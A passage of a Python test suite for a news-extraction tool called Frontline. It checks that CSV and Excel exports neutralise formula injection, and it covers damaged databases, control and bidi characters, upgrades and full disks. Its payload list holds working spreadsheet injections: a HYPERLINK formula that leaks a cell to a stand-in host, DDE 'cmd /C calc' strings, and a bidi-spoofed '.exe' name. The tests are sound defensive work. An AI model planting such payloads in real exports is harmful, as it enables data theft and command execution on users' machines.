"""Trusted under hostile text, damaged stores, full disks and upgrades (issue 11).

Each section is one failure mode, tried through the command line (a
``python -m frontline`` subprocess, with the fake extractor where the real one
is not the point) and, where it applies, through the dashboard's own code:

* spreadsheet payloads in every text field never reach a CSV or Excel cell as a
  formula (one neutraliser, ``frontline.safety.spreadsheet_cell``);
* a damaged or truncated store is reported as damaged, by name, with
  ``restore`` suggested, exit 2, at once (no lock wait);
* control and bidi characters in metadata are cleaned at ingest, with a warning,
  and every export copes with whatever text a store holds;
* ``--out DIR/`` puts a one-file export inside the folder.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

import frontline
from conftest import cli_env, fake_extract, make_article, store_counts
from frontline import exports, safety, store
from frontline.models import Article
from frontline.ingest import pipeline
from frontline.fusion import store_fusion

ROOT = Path(frontline.__file__).resolve().parent.parent
TESTS = Path(__file__).resolve().parent

# python -m frontline with the fake extractor (tests/conftest.py): deterministic, fast
FAKE_CLI = textwrap.dedent("""
    import sys
    sys.path.insert(0, {tests!r})
    from conftest import fake_extract
    import frontline.__main__ as cli
    cli._extractor = lambda: fake_extract
    sys.exit(cli.main(sys.argv[1:]))
""").format(tests=str(TESTS))


def cli(*args, fake: bool = True, env: dict | None = None, timeout: float = 240,
        preexec=None) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-c", FAKE_CLI, *map(str, args)] if fake else \
        [sys.executable, "-m", "frontline", *map(str, args)]
    return subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT, env=cli_env(**(env or {})),
                          timeout=timeout, preexec_fn=preexec)


def one_error_line(r: subprocess.CompletedProcess) -> str:
    """The single ``frontline: error:`` line of a failed command (no traceback)."""
    assert "Traceback" not in r.stderr, r.stderr
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("frontline: error:")]
    assert len(errors) == 1, r.stderr
    return errors[0]


# --------------------------------------------------------------------------- 1. formula injection

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]


def _payload_corpus(path: Path) -> Path:
    """A generic CSV whose every text field starts with a spreadsheet payload."""
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "text", "source", "published", "url"])
        for i, p in enumerate(PAYLOADS):
            text = (f"{p} {i + 2} people were killed in east Aleppo.\n"
                    f"{p} Kerry met Lavrov with Russia and United States present.")
            w.writerow([f"{p}id{i}" if i < 4 else f"id{i}", p + f" title {i}", text, p + " outlet",
                        "2016-10-13", p])
    return path


FORMULA_CHARS = tuple(safety.FORMULA_START)


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def formula_cells(rows) -> list:
    """Cells (as read back) that a spreadsheet program would run as a formula."""
    return [c for row in rows for c in row
            if isinstance(c, str) and c.startswith(FORMULA_CHARS) and not _is_number(c)]


def read_csv_cells(path: Path) -> list:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.fixture
def payload_db(tmp_path):
    db = tmp_path / "p.duckdb"
    r = cli("ingest", _payload_corpus(tmp_path / "payloads.csv"), "--db", db)
    assert r.returncode == 0, r.stderr
    conn = store.connect(db)
    try:       # analyst values too: an edited place, an added event
        store.record_review(conn, event_id="id4:i1", kind="incident", action="edit", field="location",
                            new_value="=HYPERLINK(\"http://x\")", who="@analyst")
        store.add_event(conn, "incident", {"event_type": "shelling", "killed": 2, "side": "west",
                                           "location": "+cmd|' /C calc'!A0", "event_date": "2016-10-13",
                                           "evidence": "-1+1 added by hand"}, "=who", article_id="id5")
    finally:
        conn.close()
    return db


def test_spreadsheet_cell_table():
    for p in PAYLOADS:
        assert safety.spreadsheet_cell(p) == "'" + p.replace("\x00", "")
    assert safety.spreadsheet_cell("Aleppo") == "Aleppo"
    assert safety.spreadsheet_cell(-5) == -5 and safety.spreadsheet_cell(-2.5) == -2.5
    assert safety.spreadsheet_cell(None) is None
    assert safety.spreadsheet_cell("a\x00b\x07c") == "abc"
    assert safety.spreadsheet_cell("\x00=1") == "'=1"


def test_csv_exports_neutralise_every_text_cell(payload_db, tmp_path):
    r = cli("export", "--format", "csv", "--out", tmp_path / "csv", "--db", payload_db)
    assert r.returncode == 0, r.stderr
    files = sorted((tmp_path / "csv").glob("*.csv"))
    assert {f.stem for f in files} == set(exports.TABLES)
    seen = []
    for f in files:
        rows = read_csv_cells(f)
        assert formula_cells(rows) == [], (f.name, formula_cells(rows)[:5])
        seen += [c for row in rows for c in row]
    # not vacuous: the payloads are there, as text
    assert any(c.startswith("'=HYPERLINK") for c in seen)
    assert any(c.startswith("'+cmd") for c in seen) and any(c.startswith("'@SUM") for c in seen)
    assert any(c.startswith("'\t=1+1") for c in seen)
    # numbers stay numbers
    inc = read_csv_cells(tmp_path / "csv" / "incidents.csv")
    killed = inc[0].index("killed")
    assert {row[killed] for row in inc[1:]} >= {"2", "3"}


def test_acled_csv_neutralises_notes_and_sources(payload_db, tmp_path):
    r = cli("export", "--format", "acled", "--out", tmp_path / "acled.csv", "--db", payload_db)
    assert r.returncode == 0, r.stderr
    rows = read_csv_cells(tmp_path / "acled.csv")
    assert len(rows) > 5
    assert formula_cells(rows) == []
    notes = rows[0].index("notes")
    assert any(row[notes].startswith("'=") for row in rows[1:])


def test_xlsx_neutralises_every_text_cell(payload_db, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    r = cli("export", "--format", "xlsx", "--out", tmp_path / "x.xlsx", "--db", payload_db)
    assert r.returncode == 0, r.stderr
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_CHARS)] == []
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    assert any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells)


def test_dashboard_csv_downloads_neutralise(payload_db, monkeypatch):
    """The Export page's CSV buttons build their files with the same writer."""
    monkeypatch.setenv("FRONTLINE_DB", str(payload_db))
    sys.path.insert(0, str(ROOT))
    from components import data
    from components import export as page
    from frontline.queries import Filters
    for kind in ("incidents_csv", "diplomacy_csv", "acled"):
        raw = page._build(kind, str(payload_db), data.current_version(str(payload_db)),
                          tuple(sorted(Filters().to_query_params().items())))
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
        assert len(rows) > 2, kind
        assert formula_cells(rows) == [], (kind, formula_cells(rows)[:3])
        assert any(c.startswith("'") for row in rows for c in row), kind


# --------------------------------------------------------------------------- 7. --out DIR/

@pytest.mark.parametrize("fmt, name", [("acled", "acled.csv"), ("xlsx", "frontline.xlsx"),
                                       ("geojson", "incidents.geojson"), ("briefing", "briefing.html")])
@pytest.mark.parametrize("how", ["slash", "existing"])
def test_one_file_formats_write_inside_a_folder(payload_db, tmp_path, fmt, name, how):
    folder = tmp_path / f"out_{fmt}_{how}"
    if how == "existing":
        folder.mkdir()
        target = str(folder)
    else:
        target = str(folder) + "/"
    r = cli("export", "--format", fmt, "--out", target, "--db", payload_db)
    assert r.returncode == 0, r.stderr
    assert folder.is_dir()
    assert (folder / name).is_file() and (folder / name).stat().st_size > 0
    assert r.stdout.strip() == str(folder / name)


# --------------------------------------------------------------------------- 2. damaged stores

def _good_store(path: Path) -> Path:
    conn = store.connect(path)
    try:
        pipeline.ingest(conn, [make_article(f"g{i}", f"{i + 1} people were killed in east Aleppo. "
                                                  "Kerry met Lavrov with Russia present.") for i in range(30)],
                     extract=fake_extract)
        store.record_review(conn, event_id="g1:i1", kind="incident", action="edit", field="killed",
                            new_value=40, who="ana")
        conn.execute("CHECKPOINT")
    finally:
        conn.close()
    return path


def _damage(path: Path, how: str) -> None:
    size = path.stat().st_size
    if how == "truncated-half":
        os.truncate(path, size // 2)
    elif how == "truncated-header":
        os.truncate(path, 5000)
    elif how == "zero-bytes":
        os.truncate(path, 0)
    elif how == "garbage":
        path.write_bytes(os.urandom(200_000))
    elif how == "bad-blocks":        # headers intact, every data block overwritten: checksums fail
        with open(path, "r+b") as fh:
            fh.seek(3 * 4096)
            fh.write(bytes([0xA5]) * (size - 3 * 4096))
    else:
        raise ValueError(how)


DAMAGE = ["truncated-half", "truncated-header", "zero-bytes", "garbage", "bad-blocks"]


@pytest.mark.parametrize("how", DAMAGE)
@pytest.mark.parametrize("command", [
    ("export", "--format", "csv", "--out", "{tmp}/out"),
    ("ingest", "{tmp}/one.txt"),
    ("backup", "{tmp}/b.duckdb"),
])
def test_damaged_store_is_reported_as_damaged_at_once(tmp_path, how, command):
    db = _good_store(tmp_path / "store.duckdb")
    _damage(db, how)
    before = db.read_bytes()
    (tmp_path / "one.txt").write_text("Aleppo\n\n3 people were killed in west Aleppo.\n")
    args = [a.format(tmp=tmp_path) for a in command]
    t = time.monotonic()
    r = cli(*args, "--db", db, env={"FRONTLINE_DB_WAIT": "30"})
    took = time.monotonic() - t
    assert r.returncode == 2, r.stderr
    line = one_error_line(r)
    assert "damaged" in line and str(db) in line and "restore" in line, line
    assert "in use" not in line and "unexpected" not in line
    assert took < 20, f"waited {took:.0f} s for a lock that does not exist"
    assert db.read_bytes() == before, "the damaged store was written to"
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_lock_error_words_are_not_damage_words():
    held = ('IO Error: Could not set lock on file "x.duckdb": Conflicting lock is held in python (PID 7). '
            'See also https://duckdb.org/docs/current/connect/concurrency')
    corrupt = ("Corrupt database file: computed checksum 1 does not match stored checksum 2 in block at "
               "location 1847296")
    assert store.is_lock_error(held) and not store.is_damage_error(held)
    assert store.is_damage_error(corrupt) and not store.is_lock_error(corrupt)
    assert store.is_damage_error('IO Error: Could not read enough bytes from file "x": attempted to read')


@pytest.mark.parametrize("how", ["truncated-half", "bad-blocks"])
def test_dashboard_says_the_store_is_damaged(tmp_path, monkeypatch, how):
    db = _good_store(tmp_path / "store.duckdb")
    _damage(db, how)
    monkeypatch.setenv("FRONTLINE_DB", str(db))
    monkeypatch.setenv("FRONTLINE_DB_WAIT", "30")
    from streamlit.testing.v1 import AppTest
    t = time.monotonic()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert time.monotonic() - t < 30
    assert not at.exception, at.exception
    shown = " ".join(e.value for e in list(at.error) + list(at.info) + list(at.warning))
    assert "damaged" in shown and "restore" in shown, shown
    assert "in use" not in shown


# --------------------------------------------------------------------------- 8. upgrades

V1 = TESTS / "data" / "store_v1.duckdb.gz"          # written by the release before versioning
V1_FACTS = json.loads((TESTS / "data" / "store_v1.json").read_text(encoding="utf-8"))


def _v1_store(path: Path) -> Path:
    import gzip
    import shutil
    with gzip.open(V1) as src, open(path, "wb") as out:
        shutil.copyfileobj(src, out)
    return path


def _row_hashes(conn, facts=V1_FACTS) -> dict:
    """sum(hash(row)) of every table over the columns the old release wrote."""
    out = {}
    for table, cols in facts["columns"].items():
        cols_sql = ", ".join(f'"{c}"' for c in cols)
        out[table] = str(conn.execute(f"SELECT sum(hash(({cols_sql}))) FROM {table}").fetchone()[0])
    return out


def test_store_of_the_previous_release_is_upgraded_in_place(tmp_path):
    from frontline.store import migrations
    db = _v1_store(tmp_path / "analyst.duckdb")
    r = cli("export", "--format", "csv", "--out", tmp_path / "csv", "--db", db)
    assert r.returncode == 0, r.stderr
    assert "upgrading the store from schema version 1" in r.stderr
    backups = sorted(tmp_path.glob("analyst.v1-backup-*.duckdb"))
    assert len(backups) == 1 and backups[0].name in r.stderr
    conn = store.connect(db)
    try:
        assert migrations.stored_version(conn) == migrations.SCHEMA_VERSION
        assert store.row_counts(conn) == {**dict.fromkeys(store.SCHEMA, 0), **V1_FACTS["counts"]}
        assert _row_hashes(conn) == V1_FACTS["hashes"]          # every row as the old release wrote it
        v = conn.execute("SELECT killed FROM v_incidents WHERE event_id = '000_388484fd9ac85dd6:i1'").fetchone()
        assert v[0] == V1_FACTS["v_incidents_killed_i1"] == 11   # the analyst's edit still applies
        assert conn.execute("SELECT count(*) FROM v_incidents").fetchone()[0] == V1_FACTS["v_incidents"]
        assert conn.execute("SELECT count(*) FROM v_diplomacy").fetchone()[0] == V1_FACTS["v_diplomacy"]
        assert conn.execute("SELECT count(*) FROM reviews WHERE who = 'analyst-v1'").fetchone()[0] == 3
        assert conn.execute("SELECT source_id FROM articles").fetchall() == [("000_388484fd9ac85dd6",)]
    finally:
        conn.close()
    # the backup is the old store, whole
    import duckdb
    b = duckdb.connect(str(backups[0]), read_only=True)
    try:
        assert "schema_version" not in {r[0] for r in b.execute("SHOW TABLES").fetchall()}
        assert _row_hashes(b) == V1_FACTS["hashes"]
    finally:
        b.close()
    # opened again: nothing more to do, no second backup
    r = cli("export", "--format", "json", "--out", tmp_path / "json", "--db", db)
    assert r.returncode == 0 and "upgrading" not in r.stderr
    assert len(list(tmp_path.glob("analyst.v1-backup-*"))) == 1
    inc = list(csv.DictReader(open(tmp_path / "csv" / "incidents.csv", encoding="utf-8")))
    assert len(inc) == V1_FACTS["v_incidents"]


def test_upgrade_steps_are_ordered_and_reach_the_current_version():
    from frontline.store import migrations
    versions = [v for v, _, _ in migrations.STEPS]
    assert versions == sorted(set(versions)) and versions[0] == migrations.LEGACY_VERSION + 1
    assert versions[-1] == migrations.SCHEMA_VERSION


def test_failed_upgrade_is_rolled_back_and_the_backup_kept(tmp_path, monkeypatch):
    from frontline.store import migrations
    db = _v1_store(tmp_path / "s.duckdb")

    def boom(conn):
        conn.execute("DELETE FROM reviews")           # half-done work that must not survive
        raise RuntimeError("step exploded")

    monkeypatch.setattr(migrations, "STEPS", migrations.STEPS + [(migrations.SCHEMA_VERSION + 1, "bad", boom)])
    monkeypatch.setattr(migrations, "SCHEMA_VERSION", migrations.SCHEMA_VERSION + 1)
    with pytest.raises(store.StoreError, match="upgrade from schema version 1 failed.*unchanged.*backup"):
        store.connect(db)
    monkeypatch.undo()
    import duckdb
    c = duckdb.connect(str(db), read_only=True)
    try:
        assert migrations.stored_version(c) == 1
        assert _row_hashes(c) == V1_FACTS["hashes"]
    finally:
        c.close()
    assert len(list(tmp_path.glob("s.v1-backup-*.duckdb"))) == 1


def _newer_store(path: Path) -> Path:
    from frontline.store import migrations
    _good_store(path)
    import duckdb
    c = duckdb.connect(str(path))
    c.execute("INSERT INTO schema_version VALUES (?, current_timestamp, 'from the future')",
              [migrations.SCHEMA_VERSION + 7])
    c.execute("CHECKPOINT")
    c.close()
    store.connection._SCHEMA_CHECKED.clear()
    return path


@pytest.mark.parametrize("command", [("export", "--format", "csv", "--out", "{tmp}/out"),
                                     ("ingest", "{tmp}/one.txt")])
def test_store_of_a_newer_release_is_refused_untouched(tmp_path, command):
    db = _newer_store(tmp_path / "future.duckdb")
    before = db.read_bytes()
    (tmp_path / "one.txt").write_text("Aleppo\n\n3 people were killed in west Aleppo.\n")
    r = cli(*[a.format(tmp=tmp_path) for a in command], "--db", db)
    assert r.returncode == 2
    line = one_error_line(r)
    assert "newer Frontline" in line and str(db) in line, line
    assert db.read_bytes() == before
    assert not list(tmp_path.glob("future.v*-backup-*"))


def test_dashboard_refuses_a_newer_store(tmp_path, monkeypatch):
    db = _newer_store(tmp_path / "future.duckdb")
    before = db.read_bytes()
    monkeypatch.setenv("FRONTLINE_DB", str(db))
    from streamlit.testing.v1 import AppTest
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception
    shown = " ".join(e.value for e in list(at.error) + list(at.info) + list(at.warning))
    assert "newer Frontline" in shown, shown
    assert db.read_bytes() == before


def test_restore_of_a_newer_backup_is_refused_store_untouched(tmp_path):
    future = _newer_store(tmp_path / "future.duckdb")
    db = _good_store(tmp_path / "mine.duckdb")
    before = db.read_bytes()
    r = cli("restore", future, "--db", db)
    assert r.returncode == 2 and "newer Frontline" in one_error_line(r)
    assert db.read_bytes() == before


# --------------------------------------------------------------------------- 3. control and bidi characters

NASTY = "\x00\x1b[31m\u202egnp.exe\u2066\u202a\x7f"


def _nasty_corpus(folder: Path) -> Path:
    folder.mkdir()
    (folder / "r1.txt").write_text("Aleppo\n\n4 people were killed in east Aleppo.\n", encoding="utf-8")
    (folder / "r1.meta.json").write_text(json.dumps({"title": f"Report {NASTY} one", "source": f"CNN{NASTY}",
                                                     "published": "2016-10-13", "url": f"http://x/{NASTY}"}),
                                         encoding="utf-8")
    with open(folder / "rows.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "text", "source", "published"])
        bare = NASTY.replace("\x00", "")          # a raw NUL byte makes the file binary: refused whole
        w.writerow([f"r2{bare}", f"T{bare}", f"5 people were killed in west Aleppo.{bare} Kerry met Lavrov.",
                    "\u202eSANA", "2016-10-14"])
    (folder / "rows.jsonl").write_text(json.dumps({     # JSON escapes carry NUL: \u0000
        "id": f"r3{NASTY}", "title": f"J{NASTY}", "text": f"6 people were killed in east Aleppo.{NASTY}",
        "source": f"AFP{NASTY}", "published": "2016-10-15"}) + "\n", encoding="utf-8")
    return folder


def _no_nasty(value) -> bool:
    return not any(ch in str(value) for ch in "\x00\x1b\u202e\u2066\u202a\x7f")


def test_control_and_bidi_characters_are_cleaned_at_ingest(tmp_path):
    db = tmp_path / "s.duckdb"
    r = cli("ingest", _nasty_corpus(tmp_path / "in"), "--db", db)
    assert r.returncode == 0, r.stderr
    warnings = [ln for ln in r.stderr.splitlines() if "removed control or bidi characters" in ln]
    assert len(warnings) == 3, r.stderr
    assert "r1.txt" in warnings[0] and "title" in warnings[0] and "source" in warnings[0]
    assert "rows.csv" in warnings[1] and "rows.jsonl" in warnings[2] and "text" in warnings[2]
    conn = store.connect(db, read_only=True)
    try:
        rows = conn.execute("SELECT article_id, title, source, url, text FROM articles ORDER BY 1").fetchall()
    finally:
        conn.close()
    assert [r[0] for r in rows] == ["r1", "r2[31mgnp.exe", "r3[31mgnp.exe"]
    assert rows[0][1] == "Report [31mgnp.exe one" and rows[0][2] == "CNN[31mgnp.exe"
    assert all(_no_nasty(v) for row in rows for v in row), rows


def _store_with_raw_control_text(path: Path) -> Path:
    """A store holding control and bidi characters (as an older release or a direct write may
    have left them): every export must still work."""
    _good_store(path)
    conn = store.connect(path)
    try:
        conn.execute("UPDATE articles SET title = ?, source = ? WHERE article_id = 'g1'",
                      [f"=cmd{NASTY}", f"@{NASTY}"])
        conn.execute("UPDATE incidents SET outlet = ?, evidence = ? || evidence WHERE article_id = 'g1'",
                     [f"-{NASTY}", f"+{NASTY}"])
        store.record_review(conn, event_id="g2:i1", kind="incident", action="edit", field="location",
                            new_value=f"\t{NASTY}", who=f"{NASTY}")
        conn.execute("CHECKPOINT")
    finally:
        conn.close()
    return path


@pytest.mark.parametrize("fmt, out", [("csv", "csv"), ("json", "json"), ("xlsx", "x.xlsx"),
                                      ("geojson", "x.geojson"), ("acled", "a.csv"), ("briefing", "b.html")])
def test_every_export_copes_with_any_text_in_the_store(tmp_path, fmt, out):
    db = _store_with_raw_control_text(tmp_path / "s.duckdb")
    r = cli("export", "--format", fmt, "--out", tmp_path / out, "--db", db)
    assert r.returncode == 0, r.stderr
    target = tmp_path / out
    files = sorted(target.glob("*")) if target.is_dir() else [target]
    assert files and all(f.stat().st_size > 0 for f in files)
    for f in files:
        if f.suffix == ".xlsx":
            import openpyxl
            wb = openpyxl.load_workbook(f)
            cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
            assert any(isinstance(c, str) and "gnp.exe" in c for c in cells)
            assert [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_CHARS)] == []
        elif f.suffix == ".csv":
            rows = read_csv_cells(f)
            assert formula_cells(rows) == []
            assert not any("\x00" in c for row in rows for c in row)
        elif f.suffix in (".json", ".geojson"):
            json.loads(f.read_text(encoding="utf-8"))


def test_dashboard_excel_button_copes_with_any_text(tmp_path, monkeypatch):
    db = _store_with_raw_control_text(tmp_path / "s.duckdb")
    monkeypatch.setenv("FRONTLINE_DB", str(db))
    sys.path.insert(0, str(ROOT))
    import openpyxl
    from components import data
    from components import export as page
    from frontline.queries import Filters
    raw = page._build("xlsx", str(db), data.current_version(str(db)),
                      tuple(sorted(Filters().to_query_params().items())))
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    assert wb.sheetnames == ["headline", "incidents", "diplomacy"]


# --------------------------------------------------------------------------- 4. long words in tooltips

@pytest.mark.parametrize("module", ["mapview", "casualties", "diplomacy"])
def test_tooltips_and_chart_labels_cut_long_words(tmp_path, monkeypatch, module):
    """Plotly hover texts, category labels and pydeck tooltips do not wrap: long words are cut."""
    from google.protobuf.json_format import MessageToDict
    from test_hostile import _nodes, _strings, run_page
    long = "Aleppo" + "x" * 5000
    db = tmp_path / "long.duckdb"
    conn = store.connect(db)
    try:
        pipeline.ingest(conn, [Article(id="l1", title=long, source=long, published=dt.date(2016, 10, 13),
                                    text=f"8 people were killed in east Aleppo {long}. Kerry met Lavrov with "
                                         f"Russia {long}.", published_from="metadata"),
                            Article(id="l2", title="t", source="CNN", published=dt.date(2016, 10, 13),
                                    text="5 people were killed in east Aleppo.", published_from="metadata")],
                     extract=fake_extract)
        for field, value in (("location", long), ("source", long)):
            store.record_review(conn, event_id="l1:i1", kind="incident", action="edit", field=field,
                                new_value=value, who="a")
        store.record_review(conn, event_id="l1:d1", kind="diplomacy", action="edit", field="actors",
                            new_value=[long, "Russia"], who="a")
    finally:
        conn.close()
    monkeypatch.setenv("FRONTLINE_DB", str(db))
    monkeypatch.chdir(ROOT)
    sys.path.insert(0, str(ROOT))
    at = run_page(module, {"casualties_view": "sources"} if module == "casualties" else None)
    assert not at.exception, at.exception
    checked = 0
    for node in _nodes(at._tree):
        t, proto = getattr(node, "type", None), getattr(node, "proto", None)
        if t == "plotly_chart":
            spec = json.loads(MessageToDict(proto).get("spec") or "{}")
            for trace in spec.get("data", []):
                for key in ("hovertext", "text", "x", "y", "name", "hovertemplate"):
                    for inner, s in _strings(trace.get(key)):
                        if inner in ("bdata", "dtype", "shape"):
                            continue         # a numeric array plotly sends packed (coordinates), not text
                        checked += 1
                        assert len(s) < 400, (key, s[:80])
        elif t == "deck_gl_json_chart":
            spec = json.loads(MessageToDict(proto).get("json") or "{}")
            for layer in spec.get("layers", []):
                for key, s in _strings(layer.get("data")):
                    if key == "tip":                 # what the tooltip shows ({tip})
                        checked += 1
                        assert len(s) < 600, s[:80]
            assert spec.get("tooltip", {}).get("text") in (None, "{tip}")
    assert checked, "no chart drawn: the test would be vacuous"


# --------------------------------------------------------------------------- 6. duplicate ids

def _dup_corpus(path: Path, x_text: str = "7 people were killed in west Aleppo.") -> Path:
    rows = [("d1", "2 people were killed in east Aleppo."),
            ("d1", "2 people were killed in east Aleppo."),          # the same row again
            ("d1", "3 people were killed in west Aleppo."),           # another text, same id
            ("x", x_text),
            ("d1", "4 people were killed in east Aleppo. Kerry met Lavrov with Russia."),
            ("d1", "3 people were killed in west Aleppo.")]           # the second text again
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "text", "source", "published"])
        for aid, text in rows:
            w.writerow([aid, "t", text, "CNN", "2016-10-13"])
    return path


def _summary(r) -> str:
    lines = [ln for ln in r.stdout.splitlines() if ln.startswith("ingested ")]
    assert len(lines) == 1, r.stdout
    return lines[0]


def test_duplicate_ids_keep_both_texts_and_the_counts_add_up(tmp_path):
    db = tmp_path / "s.duckdb"
    corpus = _dup_corpus(tmp_path / "dup.csv")
    r = cli("ingest", corpus, "--db", db)
    assert r.returncode == 0, r.stderr
    line = _summary(r)
    assert ("read 6: stored 4 (4 new, 0 replaced), skipped 2 (2 repeated rows, 0 already stored with the "
            "same text), 0 failed extraction") in line, line
    assert "2 second text(s) under a repeated id kept as <id>~2" in line
    assert "article id d1 occurs again with a different text; that text is stored as d1~2" in r.stderr
    assert "stored as d1~3" in r.stderr
    conn = store.connect(db, read_only=True)
    try:
        rows = conn.execute("SELECT article_id, source_id, text FROM articles ORDER BY article_id").fetchall()
        killed = dict(conn.execute("SELECT article_id, killed FROM incidents").fetchall())
    finally:
        conn.close()
    assert [(a, s) for a, s, _ in rows] == [("d1", "d1"), ("d1~2", "d1"), ("d1~3", "d1"), ("x", "x")]
    assert killed == {"d1": 2, "d1~2": 3, "d1~3": 4, "x": 7}      # the first text keeps the plain id
    # the same input again: the same ids, nothing extracted again
    r = cli("ingest", corpus, "--db", db)
    assert "read 6: stored 0 (0 new, 0 replaced), skipped 6 (2 repeated rows, 4 already stored" in _summary(r)
    # a changed text replaces the stored version
    r = cli("ingest", _dup_corpus(tmp_path / "dup2.csv", "9 people were killed in west Aleppo."), "--db", db)
    assert "read 6: stored 1 (0 new, 1 replaced), skipped 5 (2 repeated rows, 3 already stored" in _summary(r)
    assert store_counts(db)["articles"] == 4


def test_extract_gives_the_first_text_the_plain_id(tmp_path):
    out = tmp_path / "o.jsonl"
    r = cli("extract", _dup_corpus(tmp_path / "dup.csv"), "--jsonl", out)
    assert r.returncode == 0, r.stderr
    recs = [json.loads(ln) for ln in out.read_text(encoding="utf-8").splitlines()]
    by_event = {rec["event_id"]: rec["killed"] for rec in recs if rec["event_id"].endswith(":i1")}
    assert by_event == {"d1:i1": 2, "d1~2:i1": 3, "x:i1": 7, "d1~3:i1": 4}


@pytest.mark.needs_shared
def test_fakes_duplicate_ids_are_all_accounted_for(tmp_path, needs_shared):
    corpus = needs_shared / "corpora" / "fa-kes" / "FA-KES-Dataset.csv"
    with open(corpus, newline="", encoding="utf-8", errors="replace") as fh:
        rows = list(csv.DictReader(fh))
    pairs = {(r["unit_id"].strip(), r["article_content"]) for r in rows}
    ids = {r["unit_id"].strip() for r in rows}
    db = tmp_path / "fakes.duckdb"
    r = cli("ingest", corpus, "--db", db, fake=False, timeout=600)
    assert r.returncode == 0, r.stderr[-2000:]
    line = _summary(r)
    repeated = len(rows) - len(pairs)
    assert (f"read {len(rows)}: stored {len(pairs)} ({len(pairs)} new, 0 replaced), skipped {repeated} "
            f"({repeated} repeated rows") in line, line
    conn = store.connect(db, read_only=True)
    try:
        stored = conn.execute("SELECT count(*), count(*) FILTER (WHERE article_id <> source_id) FROM articles").fetchone()
    finally:
        conn.close()
    assert stored == (len(pairs), len(pairs) - len(ids))


# --------------------------------------------------------------------------- 5. a full disk

def _limit_file_size(n_bytes: int):
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (n_bytes, n_bytes))
    return limit


def _big_corpus(path: Path, n: int, filler: int = 60) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "text", "source", "published"])
        for i in range(n):
            w.writerow([f"n{i}", "t", f"{i % 40 + 1} people were killed in west Aleppo. "
                        + f"Words of report {i} go on. " * filler, "CNN", "2016-10-13"])
    return path


def test_full_disk_during_ingest_is_an_error_and_the_store_as_before(tmp_path):
    db = _good_store(tmp_path / "s.duckdb")
    before = store_counts(db)
    corpus = _big_corpus(tmp_path / "big.csv", 150)           # one batch: all or nothing
    # no file may grow past 100 kB: the batch's write-ahead log cannot be written, its commit fails
    r = cli("ingest", corpus, "--db", db, preexec=_limit_file_size(100 * 1024))
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    line = one_error_line(r)
    assert "did not reach the disk" in line and str(db) in line, line
    assert "ingested" not in r.stdout
    assert store_counts(db) == before                          # opens, as it was
    conn = store.connect(db)
    try:
        assert store.fusion_pending(conn) is None
    finally:
        conn.close()


def test_full_disk_at_the_checkpoint_is_an_error_naming_the_log(tmp_path):
    """The log is written but the main file cannot grow: an error (not exit 0) saying where the
    committed articles are; the next open with room writes them, complete."""
    db = _good_store(tmp_path / "s.duckdb")
    size = db.stat().st_size
    r = cli("ingest", _big_corpus(tmp_path / "big.csv", 150), "--db", db,
            preexec=_limit_file_size(size + 64 * 1024))
    assert r.returncode == 2, (r.stdout, r.stderr)
    line = one_error_line(r)
    assert "main file could not be written" in line and "write-ahead log" in line, line
    conn = store.connect(db)
    try:
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == 180
        assert store.fusion_pending(conn) is None
        conn.execute("CHECKPOINT")
    finally:
        conn.close()


def test_full_disk_midway_keeps_whole_batches_and_marks_fusion_pending(tmp_path):
    db = _good_store(tmp_path / "s.duckdb")
    corpus = _big_corpus(tmp_path / "big.csv", 3000)
    r = cli("ingest", corpus, "--db", db, "--batch-size", "100", preexec=_limit_file_size(1024 * 1024))
    assert r.returncode == 2 and "did not reach the disk" in one_error_line(r)
    conn = store.connect(db)
    try:
        n = conn.execute("SELECT count(*) FROM articles").fetchone()[0]
        assert 30 < n < 3030 and (n - 30) % 100 == 0, n          # whole batches only
        orphans = conn.execute("SELECT count(*) FROM incidents WHERE article_id NOT IN "
                               "(SELECT article_id FROM articles)").fetchone()[0]
        assert orphans == 0
        assert store.fusion_pending(conn) is not None          # known to be behind, not silently wrong
    finally:
        conn.close()
    # with room again, the same command finishes it: stored batches skipped, fusion current
    r = cli("ingest", corpus, "--db", db, "--batch-size", "100")
    assert r.returncode == 0, r.stderr
    assert "already stored with the same text" in _summary(r)
    conn = store.connect(db)
    try:
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == 3030
        assert store.fusion_pending(conn) is None
        assert conn.execute("SELECT count(*) FROM incidents WHERE cluster_id IS NULL").fetchone()[0] == 0
    finally:
        conn.close()


def test_full_disk_during_export_leaves_no_partial_file(tmp_path):
